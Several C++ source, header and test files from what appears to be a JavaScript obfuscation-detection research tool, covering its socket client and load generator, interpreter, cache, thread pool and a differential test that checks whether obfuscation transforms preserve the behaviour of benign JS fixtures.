Client::Client(const std::string& socket_path) {
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  if (socket_path.empty() || socket_path.size() >= sizeof(address.sun_path)) {
    throw std::runtime_error("jstraced-client: bad socket path: " +
                             socket_path);
  }
  std::memcpy(address.sun_path, socket_path.c_str(), socket_path.size() + 1);
  fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd_ < 0) {
    throw std::runtime_error(std::string("jstraced-client: socket(): ") +
                             std::strerror(errno));
  }
  if (::connect(fd_, reinterpret_cast<const sockaddr*>(&address),
                sizeof(address)) != 0) {
    const std::string reason = std::strerror(errno);
    ::close(fd_);
    fd_ = -1;
    throw std::runtime_error("jstraced-client: cannot connect to " +
                             socket_path + ": " + reason);
  }
}

Client::~Client() { close(); }

void Client::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
}

std::string Client::read_line() {
  char chunk[64 * 1024];
  for (;;) {
    const std::size_t newline = buffer_.find('\n');
    if (newline != std::string::npos) {
      std::string line = buffer_.substr(0, newline);
      buffer_.erase(0, newline + 1);
      if (!line.empty() && line.back() == '\r') line.pop_back();
      return line;
    }
    const ssize_t n = ::recv(fd_, chunk, sizeof(chunk), 0);
    if (n < 0 && errno == EINTR) continue;
    if (n <= 0) {
      throw std::runtime_error(
          "jstraced-client: connection closed mid-response");
    }
    buffer_.append(chunk, static_cast<std::size_t>(n));
  }
}

std::string Client::call_raw(const std::string& line) {
  if (fd_ < 0) throw std::runtime_error("jstraced-client: not connected");
  if (!write_all(fd_, line + "\n")) {
    throw std::runtime_error(std::string("jstraced-client: send: ") +
                             std::strerror(errno));
  }
  return read_line();
}

analysis::wire::ParsedResponse Client::call(
    const analysis::AnalyzeRequest& request) {
  const std::string line =
      call_raw(analysis::wire::analyze_request_json(request));
  std::string error;
  std::optional<analysis::wire::ParsedResponse> response =
      analysis::wire::parse_analyze_response(line, &error);
  if (!response.has_value()) {
    throw std::runtime_error("jstraced-client: malformed response (" + error +
                             "): " + line);
  }
  return *std::move(response);
}

bool Client::ping() {
  std::string error;
  const std::string line = call_raw("{\"op\":\"ping\"}");
  std::optional<support::JsonValue> document =
      support::parse_json(line, &error);
  if (!document.has_value()) return false;
  const support::JsonValue* status = document->find("status");
  return status != nullptr && status->as_string() == "ok";
}

std::string Client::metrics_json() {
  std::string error;
  const std::string line = call_raw("{\"op\":\"metrics\"}");
  std::optional<support::JsonValue> document =
      support::parse_json(line, &error);
  if (!document.has_value()) {
    throw std::runtime_error("jstraced-client: malformed metrics line (" +
                             error + ")");
  }
  const support::JsonValue* metrics = document->find("metrics");
  if (metrics == nullptr) {
    throw std::runtime_error("jstraced-client: metrics op missing 'metrics'");
  }
  // Re-serialize the parsed member: immune to envelope key reordering or
  // new members, unlike substring extraction from the raw line.
  return support::to_json(*metrics);
}

std::string Client::stats_json() {
  std::string error;
  const std::string line = call_raw("{\"op\":\"stats\"}");
  std::optional<support::JsonValue> document =
      support::parse_json(line, &error);
  if (!document.has_value()) {
    throw std::runtime_error("jstraced-client: malformed stats line (" +
                             error + ")");
  }
  const support::JsonValue* stats = document->find("stats");
  if (stats == nullptr) {
    throw std::runtime_error("jstraced-client: stats op missing 'stats'");
  }
  return support::to_json(*stats);
}

std::string LoadReport::to_json() const {
  JsonWriter writer;
  writer.begin_object();
  writer.key("sent");
  writer.value(sent);
  writer.key("ok");
  writer.value(ok);
  writer.key("shed");
  writer.value(shed);
  writer.key("rejected");
  writer.value(rejected);
  writer.key("transport_errors");
  writer.value(transport_errors);
  writer.key("shed_rate");
  writer.value(shed_rate());
  writer.key("wall_ms");
  writer.value(wall_ms);
  writer.key("latency_p50_ms");
  writer.value(latency_p50_ms);
  writer.key("latency_p95_ms");
  writer.value(latency_p95_ms);
  writer.key("latency_p99_ms");
  writer.value(latency_p99_ms);
  writer.key("latency_max_ms");
  writer.value(latency_max_ms);
  writer.key("achieved_qps");
  writer.value(achieved_qps);
  writer.end_object();
  return writer.str();
}

LoadReport run_load(const std::string& socket_path,
                    const LoadOptions& options) {
  if (options.sources.empty()) {
    throw std::runtime_error("run_load: options.sources is empty");
  }
  const std::size_t connections = std::max<std::size_t>(options.connections, 1);

  LoadReport report;
  std::vector<double> latencies;
  std::mutex merge_mutex;

  const auto started = std::chrono::steady_clock::now();
  std::vector<std::thread> threads;
  threads.reserve(connections);
  for (std::size_t c = 0; c < connections; ++c) {
    threads.emplace_back([&, c] {
      LoadReport local;
      std::vector<double> local_latencies;
      local_latencies.reserve(options.requests_per_connection);
      try {
        Client client(socket_path);
        for (std::size_t r = 0; r < options.requests_per_connection; ++r) {
          const std::size_t pick =
              (c * options.requests_per_connection + r) %
              options.sources.size();
          analysis::AnalyzeRequest request = analysis::AnalyzeRequest::
              for_source(options.sources[pick],
                         std::to_string(c) + "-" + std::to_string(r));
          request.detail = options.detail;
          if (options.deadline_ms > 0.0) {
            ResourceLimits limits;
            limits.deadline_ms = options.deadline_ms;
            request.limits = limits;
          }
          const auto sent_at = std::chrono::steady_clock::now();
          ++local.sent;
          const analysis::wire::ParsedResponse response =
              client.call(request);
          local_latencies.push_back(
              std::chrono::duration<double, std::milli>(
                  std::chrono::steady_clock::now() - sent_at)
                  .count());
          switch (response.status) {
            case analysis::ResponseStatus::kOk:
              ++local.ok;
              break;
            case analysis::ResponseStatus::kOverloaded:
            case analysis::ResponseStatus::kDraining:
              ++local.shed;
              break;
            default:
              ++local.rejected;
              break;
          }
        }
      } catch (const std::exception&) {
        // Transport failure: the in-flight request is lost and this
        // connection's loop ends; everything recorded so far stands.
        ++local.transport_errors;
      }
      std::lock_guard<std::mutex> lock(merge_mutex);
      report.sent += local.sent;
      report.ok += local.ok;
      report.shed += local.shed;
      report.rejected += local.rejected;
      report.transport_errors += local.transport_errors;
      latencies.insert(latencies.end(), local_latencies.begin(),
                       local_latencies.end());
    });
  }
  for (std::thread& thread : threads) thread.join();
  report.wall_ms = std::chrono::duration<double, std::milli>(
                       std::chrono::steady_clock::now() - started)
                       .count();

  report.latency_p50_ms = stats::percentile(latencies, 50.0);
  report.latency_p95_ms = stats::percentile(latencies, 95.0);
  report.latency_p99_ms = stats::percentile(latencies, 99.0);
  report.latency_max_ms = stats::max(latencies);
  if (report.wall_ms > 0.0) {
    report.achieved_qps = 1000.0 *
                          static_cast<double>(latencies.size()) /
                          report.wall_ms;
  }
  return report;
}

}  // namespace jst::server
