# Empty dependencies file for bench_fig67_longitudinal_alexa.
# This may be replaced when dependencies are built.
