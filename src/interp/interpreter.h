// Reference interpreter for the jstraced ES subset.
//
// Purpose-built for differential testing of the transformation tools:
// `run(source)` executes a program and returns everything it printed via
// console.log — a transformed program must produce the same log. Supports
// closures, var hoisting, all statement/expression forms the parser emits
// (minus `class`, generators/async, tagged templates, and eval/Function),
// and the string/array/math builtins the transformers rely on.
#pragma once

#include <memory>
#include <string>
#include <string_view>
#include <unordered_map>
#include <vector>

#include "interp/value.h"
#include "parser/parser.h"

namespace jst::interp {

class Environment : public std::enable_shared_from_this<Environment> {
 public:
  explicit Environment(std::shared_ptr<Environment> parent = nullptr)
      : parent_(std::move(parent)) {}

  // Declares (or redeclares) in this environment.
  void declare(std::string_view name, Value value);
  // Assigns to the nearest declaration; declares globally if absent
  // (sloppy mode).
  void assign(std::string_view name, Value value);
  // Looks up through the chain; throws ThrownValue(ReferenceError string)
  // if absent.
  Value get(std::string_view name) const;
  bool has(std::string_view name) const;

  Environment* parent() { return parent_.get(); }

 private:
  std::unordered_map<std::string, Value> bindings_;
  std::shared_ptr<Environment> parent_;
};

struct RunResult {
  bool ok = false;
  std::vector<std::string> log;   // console.log lines
  std::string error;              // populated when !ok
  std::size_t steps = 0;
};

struct InterpreterOptions {
  std::size_t step_budget = 4'000'000;
};

class Interpreter {
 public:
  explicit Interpreter(InterpreterOptions options = {});

  // Parses and executes a full program.
  RunResult run(std::string_view source);
  // Executes an already parsed program.
  RunResult run_program(const Node* program);

  // Calls a function value (used by native builtins like Array.map).
  Value call_function(const Value& callee, const Value& this_value,
                      const std::vector<Value>& args);

  std::vector<std::string>& log() { return log_; }

 private:
  // Statement completions.
  enum class CompletionType { kNormal, kBreak, kContinue, kReturn };
  struct Completion {
    CompletionType type = CompletionType::kNormal;
    Value value = Undefined{};
    std::string label;  // for labeled break/continue
  };

  void tick();

  using EnvPtr = std::shared_ptr<Environment>;

  // Hoisting: binds `var` names (undefined) and function declarations.
  void hoist(const Node* body, const EnvPtr& environment);

  Completion exec_statement(const Node* node, const EnvPtr& environment);
  Completion exec_block(const Node* node, const EnvPtr& environment);
  Value eval(const Node* node, const EnvPtr& environment);
  Value eval_binary(const Node* node, const EnvPtr& environment);
  Value eval_call(const Node* node, const EnvPtr& environment);
  Value eval_member_object(const Node* member, const EnvPtr& environment,
                           Value* this_out);
  Value get_member(const Value& object, std::string_view key);
  void set_member(const Value& object, std::string_view key, Value value);
  void assign_target(const Node* target, Value value, const EnvPtr& environment);
  void bind_pattern(const Node* pattern, const Value& value,
                    const EnvPtr& environment, bool declare);
  FunctionPtr make_function(const Node* node, const EnvPtr& environment);
  Value invoke(const FunctionPtr& function, const Value& this_value,
               const std::vector<Value>& args);
  std::string property_key(const Node* key_node, bool computed,
                           const EnvPtr& environment);

  EnvPtr globals_;
  std::vector<std::string> log_;
  InterpreterOptions options_;
  std::size_t steps_ = 0;
};

// Convenience: run `source`, return the log (throws InterpreterError /
// ThrownValue details folded into RunResult instead).
RunResult run_program_source(std::string_view source,
                             const InterpreterOptions& options = {});

}  // namespace jst::interp
