# Empty dependencies file for jst_codegen.
# This may be replaced when dependencies are built.
