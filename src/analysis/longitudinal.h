// Longitudinal models (§IV-D): 65 monthly population specs, 2015-05
// through 2020-09, for Alexa Top 2k, npm Top 2k, and the malware feeds.
#pragma once

#include <string>
#include <vector>

#include "analysis/wild.h"

namespace jst::analysis {

constexpr std::size_t kMonthCount = 65;  // 2015-05 .. 2020-09

// "2015-05", "2015-06", ... for month_index in [0, 65).
std::string month_label(std::size_t month_index);

// Alexa Top 2k trend (Figures 6/7): transformed share rises steadily;
// minification-simple grows 38.74% -> 47.02% while advanced drifts
// 43.77% -> 40% and identifier obfuscation declines 8.23% -> 6.21%.
PopulationSpec alexa_month_spec(std::size_t month_index);

// npm Top 2k (Figures 6/8): three phases — ~7.4% (high churn / 24.22%
// relative stddev), ~17.95% (stable), ~15.17% — with technique mix
// roughly constant (58.62% simple / 34.28% advanced / 9.71% id-obf).
// Month-to-month package churn is modeled as seeded noise.
PopulationSpec npm_month_spec(std::size_t month_index);

// Malware waves (Figure 5): per-month mixes fluctuate strongly; each
// month one randomly dominant configuration rides on the base mix.
PopulationSpec malware_month_spec(const PopulationSpec& base,
                                  std::size_t month_index);

// Evolves one month's corpus snapshot into the next month's: slot i
// keeps its script with probability `persistence` (the paper's §IV crawl
// finds well over half of scripts byte-identical across snapshots) and
// is otherwise refreshed with a script drawn from `spec`. Decisions and
// replacements are a pure function of (previous, spec, persistence,
// seed), so consecutive snapshots are reproducible — the workload the
// jstraced-snapshot driver diffs through the result cache
// (DESIGN.md §15).
std::vector<std::string> evolve_snapshot(
    const std::vector<std::string>& previous, const PopulationSpec& spec,
    double persistence, std::uint64_t seed);

}  // namespace jst::analysis
