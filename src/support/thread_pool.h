// Fixed-size worker pool with a deterministic parallel_for helper.
//
// All parallelism in jstraced flows through this module: forest training,
// dataset synthesis, population simulation, and batch analysis. The design
// rules that keep results reproducible:
//  - a pool's `parallelism()` counts the *caller* as one lane, so
//    ThreadPool(1) spawns no workers and runs everything inline;
//  - parallel_for distributes independent indices — callers that need
//    randomness derive one seed per index serially *before* fanning out,
//    so outputs are bit-identical for any thread count;
//  - parallel_for is safe to call from inside a worker (nested use): the
//    calling thread always participates, so progress never depends on a
//    free worker.
#pragma once

#include <condition_variable>
#include <cstddef>
#include <deque>
#include <functional>
#include <mutex>
#include <thread>
#include <vector>

namespace jst::support {

class ThreadPool {
 public:
  // `parallelism` = total concurrent lanes including the calling thread
  // (so `parallelism - 1` workers are spawned). 0 = default_parallelism().
  explicit ThreadPool(std::size_t parallelism = 0);
  ~ThreadPool();

  ThreadPool(const ThreadPool&) = delete;
  ThreadPool& operator=(const ThreadPool&) = delete;

  std::size_t parallelism() const { return workers_.size() + 1; }

  // Enqueues a task. Tasks start in FIFO order. With no workers
  // (parallelism 1) the task runs inline, immediately. The submitting
  // thread's obs request context (if any) is captured and re-installed
  // around the task on the worker lane.
  void submit(std::function<void()> task);

  // Runs body(0) .. body(count - 1), caller participating. Blocks until
  // every started index finished. The first exception thrown by `body` is
  // rethrown here; remaining unstarted indices are abandoned.
  void parallel_for(std::size_t count,
                    const std::function<void(std::size_t)>& body);

  // JST_THREADS environment variable if set to a positive integer,
  // otherwise std::thread::hardware_concurrency() (minimum 1). Read
  // fresh on every call so tests can override the environment.
  static std::size_t default_parallelism();

  // Process-wide shared pool, sized by default_parallelism() at first use.
  static ThreadPool& global();

 private:
  void worker_loop();

  std::vector<std::thread> workers_;
  std::deque<std::function<void()>> queue_;
  std::mutex mutex_;
  std::condition_variable wake_;
  bool stopping_ = false;
};

// Canonical requested-parallelism resolution, shared by every surface
// that accepts a thread count (BatchOptions::threads, ServerConfig::workers,
// run_parallel, the pool constructor): 0 means "JST_THREADS / hardware
// default", any positive value is taken literally. Centralizing the rule
// keeps the environment variable read through exactly one code path.
inline std::size_t resolve_threads(std::size_t requested) {
  return requested == 0 ? ThreadPool::default_parallelism() : requested;
}

// Convenience wrapper used across the pipeline: runs `body` over [0, count)
// with `threads` lanes. 0 = default_parallelism(); 1 = plain serial loop;
// the global pool is reused when it already has the requested width.
void run_parallel(std::size_t threads, std::size_t count,
                  const std::function<void(std::size_t)>& body);

}  // namespace jst::support
