#include "analysis/model_io.h"

#include <istream>
#include <ostream>

#include "analysis/detector.h"
#include "support/error.h"

namespace jst::analysis {
namespace {

constexpr const char* kModelMagic = "jstraced-model";

[[noreturn]] void fail_mismatch(const std::string& component,
                                const char* field,
                                const std::string& model_value,
                                const std::string& expected_value) {
  throw ModelError("model load (" + component + "): " + field +
                   " mismatch: model has " + model_value +
                   ", configuration expects " + expected_value);
}

void check_field(const std::string& component, const char* field,
                 std::size_t model_value, std::size_t expected_value) {
  if (model_value != expected_value) {
    fail_mismatch(component, field, std::to_string(model_value),
                  std::to_string(expected_value));
  }
}

}  // namespace

ModelHeader make_model_header(std::string component,
                              const DetectorConfig& config) {
  ModelHeader header;
  header.component = std::move(component);
  header.feature_dimension = features::feature_dimension(config.features);
  header.tree_count = config.forest.tree_count;
  header.max_depth = config.forest.tree.max_depth;
  header.min_samples_split = config.forest.tree.min_samples_split;
  header.min_samples_leaf = config.forest.tree.min_samples_leaf;
  header.max_features = config.forest.tree.max_features;
  header.classifier_chain = config.classifier_chain;
  return header;
}

void write_model_header(std::ostream& out, const ModelHeader& header) {
  out << kModelMagic << ' ' << header.version << ' ' << header.component << ' '
      << header.feature_dimension << ' ' << header.tree_count << ' '
      << header.max_depth << ' ' << header.min_samples_split << ' '
      << header.min_samples_leaf << ' ' << header.max_features << ' '
      << (header.classifier_chain ? 1 : 0) << '\n';
}

ModelHeader read_model_header(std::istream& in) {
  std::string magic;
  if (!(in >> magic)) {
    throw ModelError("model load: empty or truncated stream");
  }
  if (magic != kModelMagic) {
    throw ModelError("model load: unrecognized format (magic \"" + magic +
                     "\", expected \"" + kModelMagic + "\")");
  }
  ModelHeader header;
  if (!(in >> header.version)) {
    throw ModelError("model load: truncated header (missing version)");
  }
  if (header.version != ModelHeader::kFormatVersion) {
    throw ModelError("model load: unsupported format version " +
                     std::to_string(header.version) + " (this build reads " +
                     std::to_string(ModelHeader::kFormatVersion) + ")");
  }
  int chain = 0;
  if (!(in >> header.component >> header.feature_dimension >>
        header.tree_count >> header.max_depth >> header.min_samples_split >>
        header.min_samples_leaf >> header.max_features >> chain)) {
    throw ModelError("model load: truncated header");
  }
  header.classifier_chain = chain != 0;
  return header;
}

void check_model_header(std::istream& in, const ModelHeader& expected) {
  const ModelHeader actual = read_model_header(in);
  if (actual.component != expected.component) {
    fail_mismatch(expected.component, "component", actual.component,
                  expected.component);
  }
  const std::string& component = expected.component;
  check_field(component, "feature_dimension", actual.feature_dimension,
              expected.feature_dimension);
  check_field(component, "tree_count", actual.tree_count, expected.tree_count);
  check_field(component, "max_depth", actual.max_depth, expected.max_depth);
  check_field(component, "min_samples_split", actual.min_samples_split,
              expected.min_samples_split);
  check_field(component, "min_samples_leaf", actual.min_samples_leaf,
              expected.min_samples_leaf);
  check_field(component, "max_features", actual.max_features,
              expected.max_features);
  if (actual.classifier_chain != expected.classifier_chain) {
    fail_mismatch(component, "classifier_chain",
                  actual.classifier_chain ? "chain" : "independent",
                  expected.classifier_chain ? "chain" : "independent");
  }
}

}  // namespace jst::analysis
