// Content-addressed cache of analysis outcomes (DESIGN.md §15).
//
// The paper's §IV crawl deduplicates scripts by content hash — well over
// half of the scripts observed across monthly snapshots repeat byte-for-
// byte — so re-running the pipeline on repeat traffic is pure waste. A
// ResultCache keys finished ScriptOutcomes by (content_hash, model
// fingerprint, limits fingerprint, wire version): any input that changes
// what the pipeline would produce changes the key, so a lookup hit is
// bit-identical to recomputation by construction.
//
// Two tiers share one key space:
//   - an in-memory, byte-budgeted LRU of parsed outcomes (the same
//     list+index discipline as the daemon's source registry, DESIGN.md
//     §13), serving hot keys without touching the disk or the parser;
//   - an append-only NDJSON record file (<dir>/results.ndjson) fronted
//     by an offset index, so a restart — or an entry evicted from the
//     memory tier — still resolves without re-analysis.
// The record file opens with a versioned header checked model_io-style
// (magic, format version, wire version); a mismatch discards the file
// rather than risking stale-schema outcomes. Loading is crash-tolerant:
// the first corrupt record truncates the file back to the last good
// byte, which is exactly the state an interrupted append leaves behind.
//
// Staleness policy lives in the caller (AnalyzerService): only settled
// outcomes — never degraded or budget/deadline-tripped ones — are
// stored, and CacheMode::kRefresh overwrites via a fresh append (last
// record wins on reload).
#pragma once

#include <cstdint>
#include <list>
#include <mutex>
#include <optional>
#include <string>
#include <string_view>
#include <unordered_map>

#include "analysis/pipeline.h"
#include "support/budget.h"
#include "support/json_reader.h"

namespace jst::analysis {

// FNV-1a 64 of the six ResourceLimits ceilings in declaration order, as
// 16 lowercase hex digits. Part of the cache key: the same source under
// different governance can legitimately produce different outcomes
// (ineligible_size vs ok, budget trips), so limits isolate entries.
std::string limits_fingerprint(const ResourceLimits& limits);

// Reconstructs a ScriptOutcome from its wire::write_script_outcome JSON
// (kFull detail). Returns std::nullopt on unknown status/technique names
// or structural damage. Round-trip invariant, relied on for the cache's
// bit-identity guarantee and checked by test_cache:
//   script_outcome_json(*parse_script_outcome(d)) == to_json(d) bytes.
std::optional<ScriptOutcome> parse_script_outcome(
    const support::JsonValue& value);

class ResultCache {
 public:
  struct Config {
    // Directory for the persistent tier; empty = memory-only cache.
    std::string dir;
    // Byte budget of the in-memory LRU tier (keys + parsed outcomes).
    std::size_t max_bytes = std::size_t{64} << 20;
  };

  // Monotonic counters mirrored into the jst_cache_* metric family.
  struct Counters {
    std::uint64_t hits = 0;
    std::uint64_t misses = 0;
    std::uint64_t stores = 0;
    std::uint64_t evictions = 0;
    std::uint64_t bypasses = 0;
    std::size_t entries = 0;       // memory-tier entries
    std::size_t bytes = 0;         // memory-tier footprint
    std::size_t disk_records = 0;  // live keys in the record file
  };

  // Opens (or creates) the record file when config.dir is set; never
  // throws on I/O or format trouble — the cache degrades to memory-only
  // and load_error() carries the diagnostic.
  explicit ResultCache(Config config);
  ~ResultCache();

  ResultCache(const ResultCache&) = delete;
  ResultCache& operator=(const ResultCache&) = delete;

  // Builds the composite key for one (source, model, limits) triple.
  // `content_hash` and `model_fingerprint` are 16-hex tokens
  // (analysis::content_hash / AnalyzerService::model_fingerprint); the
  // wire format version is folded in here so a schema bump invalidates
  // every old entry at once.
  static std::string make_key(std::string_view content_hash,
                              std::string_view model_fingerprint,
                              const ResourceLimits& limits);

  // Memory tier first, then the record file (promoting into memory).
  // Counts a hit or a miss either way.
  std::optional<ScriptOutcome> lookup(const std::string& key);

  // True when the key resolves in either tier; no promotion, no counter.
  bool contains(const std::string& key) const;

  // Appends the outcome under `key` (overwriting any previous entry —
  // last record wins on reload). Callers gate on cacheable(); store()
  // also enforces it and silently drops uncacheable outcomes.
  void store(const std::string& key, const ScriptOutcome& outcome);

  // Records a CacheMode::kBypass request against this cache's counters.
  void note_bypass();

  // The never-cache-degraded rule: only settled outcomes whose bytes are
  // a pure function of (source, model, limits). Budget-dataflow/degraded
  // outcomes and deadline trips depend on wall-clock scheduling; hard
  // count trips stay out too so a limits change is the only thing that
  // can re-admit them (their fingerprint changes anyway).
  static bool cacheable(const ScriptOutcome& outcome) {
    switch (outcome.status) {
      case ScriptStatus::kOk:
      case ScriptStatus::kParseError:
      case ScriptStatus::kIneligibleSize:
      case ScriptStatus::kIneligibleAst:
        return true;
      default:
        return false;
    }
  }

  Counters counters() const;

  // Path of the record file ("" for a memory-only cache).
  const std::string& path() const { return path_; }
  // Diagnostic from opening/loading the record file; empty when clean.
  const std::string& load_error() const { return load_error_; }

 private:
  struct DiskRecord {
    std::uint64_t offset = 0;  // byte offset of the record line
    std::uint64_t length = 0;  // line length including the newline
  };
  struct MemoryEntry {
    std::string key;
    ScriptOutcome outcome;
    std::size_t bytes = 0;  // key + serialized-outcome footprint estimate
  };

  void load_locked();
  void insert_memory_locked(const std::string& key,
                            const ScriptOutcome& outcome,
                            std::size_t outcome_bytes);
  bool read_disk_locked(const std::string& key, ScriptOutcome& outcome);
  bool append_locked(const std::string& key, const std::string& outcome_json);

  Config config_;
  std::string path_;
  std::string load_error_;
  int fd_ = -1;  // O_APPEND record file; -1 for memory-only caches

  mutable std::mutex mutex_;
  std::list<MemoryEntry> lru_;  // front = most recently used
  std::unordered_map<std::string, std::list<MemoryEntry>::iterator> index_;
  std::unordered_map<std::string, DiskRecord> disk_index_;
  std::size_t memory_bytes_ = 0;
  Counters counters_;
};

}  // namespace jst::analysis
