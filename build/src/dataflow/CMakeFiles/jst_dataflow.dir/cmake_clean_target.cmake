file(REMOVE_RECURSE
  "libjst_dataflow.a"
)
