#include "support/budget.h"

#include <cmath>

namespace jst {
namespace {

std::string format_value(ResourceKind kind, double value) {
  if (kind == ResourceKind::kDeadline) {
    std::string text = std::to_string(value);
    return text + " ms";
  }
  return std::to_string(static_cast<long long>(value));
}

}  // namespace

std::string_view to_string(ResourceKind kind) {
  switch (kind) {
    case ResourceKind::kSourceBytes: return "source_bytes";
    case ResourceKind::kTokens: return "tokens";
    case ResourceKind::kAstNodes: return "ast_nodes";
    case ResourceKind::kAstDepth: return "ast_depth";
    case ResourceKind::kDataflowEdges: return "dataflow_edges";
    case ResourceKind::kDeadline: return "deadline";
  }
  return "unknown";
}

std::string BudgetTrip::to_string() const {
  std::string text(jst::to_string(kind));
  text += " budget exceeded";
  if (!stage.empty()) {
    text += " in ";
    text += stage;
  }
  text += " (" + format_value(kind, observed) + " > " +
          format_value(kind, limit) + ")";
  return text;
}

BudgetExceeded::BudgetExceeded(BudgetTrip trip)
    : std::runtime_error(trip.to_string()), trip_(std::move(trip)) {}

BudgetTrip Budget::make_trip(ResourceKind kind) const {
  BudgetTrip trip;
  trip.kind = kind;
  trip.stage = stage_;
  switch (kind) {
    case ResourceKind::kSourceBytes:
      trip.limit = static_cast<double>(limits_.max_source_bytes);
      break;
    case ResourceKind::kTokens:
      trip.limit = static_cast<double>(limits_.max_tokens);
      trip.observed = static_cast<double>(tokens_);
      break;
    case ResourceKind::kAstNodes:
      trip.limit = static_cast<double>(limits_.max_ast_nodes);
      trip.observed = static_cast<double>(ast_nodes_);
      break;
    case ResourceKind::kAstDepth:
      trip.limit = static_cast<double>(limits_.max_ast_depth);
      break;
    case ResourceKind::kDataflowEdges:
      trip.limit = static_cast<double>(limits_.max_dataflow_edges);
      trip.observed = static_cast<double>(dataflow_edges_);
      break;
    case ResourceKind::kDeadline:
      trip.limit = limits_.deadline_ms;
      trip.observed = elapsed_ms();
      break;
  }
  return trip;
}

void Budget::trip(ResourceKind kind, double limit, double observed) {
  BudgetTrip record;
  record.kind = kind;
  record.limit = limit;
  record.observed = observed;
  record.stage = stage_;
  throw BudgetExceeded(std::move(record));
}

}  // namespace jst
