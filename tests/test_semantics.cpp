// Differential semantic tests: every transformation technique must
// preserve program behaviour. Each fixture prints a value sequence via
// console.log; we run the original and the transformed program through
// the reference interpreter and require identical logs.
//
// Excluded by design: no-alphanumeric, self-defending, debug protection,
// and the packer — their outputs depend on eval/Function/native function
// stringification, which the reference interpreter deliberately omits.
#include <gtest/gtest.h>

#include "interp/interpreter.h"
#include "support/strings.h"
#include "transform/transform.h"

namespace jst {
namespace {

using interp::RunResult;
using interp::run_program_source;
using transform::Technique;

const char* kFixtures[] = {
    // arithmetic + loops
    R"JS(
      var total = 0;
      for (var i = 1; i <= 10; i++) { total += i * i; }
      console.log(total);
    )JS",
    // strings + conditionals
    R"JS(
      function classify(word) {
        if (word.length > 5) { return "long"; }
        else if (word.length > 2) { return "mid"; }
        return "short";
      }
      var words = ["a", "tree", "elephant", "ox", "house"];
      var out = [];
      for (var i = 0; i < words.length; i++) { out.push(classify(words[i])); }
      console.log(out.join("|"));
    )JS",
    // closures + higher-order functions
    R"JS(
      function makeAdder(n) { return function (x) { return x + n; }; }
      var add5 = makeAdder(5);
      var add10 = makeAdder(10);
      console.log(add5(1) + add10(2) + add5(add10(3)));
    )JS",
    // objects + member access + string building
    R"JS(
      var registry = { items: [], add: function (name, price) {
        this.items.push({ name: name, price: price });
      } };
      registry.add("pen", 2);
      registry.add("book", 12);
      var total = 0;
      for (var i = 0; i < registry.items.length; i++) {
        total += registry.items[i].price;
      }
      console.log("total=" + total + " first=" + registry.items[0].name);
    )JS",
    // switch + fallthrough + break
    R"JS(
      function grade(score) {
        switch (true) {
          case score >= 90: return "A";
          case score >= 80: return "B";
          case score >= 70: return "C";
          default: return "F";
        }
      }
      console.log(grade(95) + grade(85) + grade(42));
    )JS",
    // try/catch + throw
    R"JS(
      function safeDiv(a, b) {
        if (b === 0) { throw "division by zero"; }
        return a / b;
      }
      var log = [];
      try { log.push(safeDiv(10, 2)); log.push(safeDiv(1, 0)); }
      catch (e) { log.push("err:" + e); }
      console.log(log.join(","));
    )JS",
    // recursion
    R"JS(
      function gcd(a, b) { return b === 0 ? a : gcd(b, a % b); }
      console.log(gcd(462, 1071));
    )JS",
    // string manipulation the string-obfuscator likes to touch
    R"JS(
      var message = "the quick brown fox jumps over the lazy dog";
      var parts = message.split(" ");
      var initials = "";
      for (var i = 0; i < parts.length; i++) { initials += parts[i].charAt(0); }
      console.log(initials.toUpperCase());
    )JS",
    // nested loops with continue/break
    R"JS(
      var hits = [];
      outer0 = 0;
      for (var i = 0; i < 5; i++) {
        for (var j = 0; j < 5; j++) {
          if ((i + j) % 2 === 0) { continue; }
          if (j > 3) { break; }
          hits.push(i + "" + j);
        }
      }
      console.log(hits.join(" "));
    )JS",
    // array methods
    R"JS(
      var values = [4, 1, 9, 2, 8, 3];
      var evens = values.filter(function (v) { return v % 2 === 0; });
      var doubled = evens.map(function (v) { return v * 2; });
      var total = doubled.reduce(function (a, b) { return a + b; }, 0);
      console.log(total + ":" + doubled.join("+"));
    )JS",
    // while loop state machine (mirrors flattening input)
    R"JS(
      var state = "start";
      var trace = [];
      var guard = 0;
      while (state !== "done" && guard++ < 20) {
        if (state === "start") { trace.push(1); state = "middle"; }
        else if (state === "middle") { trace.push(2); state = "end"; }
        else { trace.push(3); state = "done"; }
      }
      console.log(trace.join(""));
    )JS",
    // var hoisting subtleties
    R"JS(
      function f() {
        var out = typeof x;
        var x = 1;
        { var x = 2; }
        return out + x;
      }
      console.log(f());
    )JS",
    // template literals + ternaries
    R"JS(
      var count = 3;
      var label = count === 1 ? "item" : "items";
      console.log(`cart has ${count} ${label}`);
    )JS",
    // number formatting paths
    R"JS(
      console.log((255).toString(16) + "," + (3.5).toFixed(1) + "," +
                  parseInt("0x2a", 16));
    )JS",
};

// Techniques whose output stays within the interpreter's subset.
const Technique kSemanticTechniques[] = {
    Technique::kIdentifierObfuscation, Technique::kStringObfuscation,
    Technique::kGlobalArray,           Technique::kDeadCodeInjection,
    Technique::kControlFlowFlattening, Technique::kMinificationSimple,
    Technique::kMinificationAdvanced,
};

struct SemanticsCase {
  std::size_t fixture_index;
  Technique technique;
};

class TransformSemantics
    : public ::testing::TestWithParam<std::tuple<std::size_t, int>> {};

TEST_P(TransformSemantics, BehaviourPreserved) {
  const std::size_t fixture_index = std::get<0>(GetParam());
  const Technique technique =
      kSemanticTechniques[static_cast<std::size_t>(std::get<1>(GetParam()))];
  const char* fixture = kFixtures[fixture_index];

  const RunResult original = run_program_source(fixture);
  ASSERT_TRUE(original.ok) << original.error;
  ASSERT_FALSE(original.log.empty());

  Rng rng(strings::fnv1a(fixture) ^ static_cast<std::uint64_t>(technique));
  const std::string transformed =
      transform::apply_technique(technique, fixture, rng);
  const RunResult after = run_program_source(transformed);
  ASSERT_TRUE(after.ok) << transform::technique_name(technique) << ": "
                        << after.error << "\n--- transformed ---\n"
                        << transformed;
  EXPECT_EQ(original.log, after.log)
      << transform::technique_name(technique) << "\n--- transformed ---\n"
      << transformed;
}

INSTANTIATE_TEST_SUITE_P(
    AllFixturesAllTechniques, TransformSemantics,
    ::testing::Combine(::testing::Range<std::size_t>(0, std::size(kFixtures)),
                       ::testing::Range(0, static_cast<int>(
                                               std::size(kSemanticTechniques)))));

// Mixed configurations must preserve semantics too.
class MixedSemantics : public ::testing::TestWithParam<std::size_t> {};

TEST_P(MixedSemantics, TwoTechniqueCombosPreserved) {
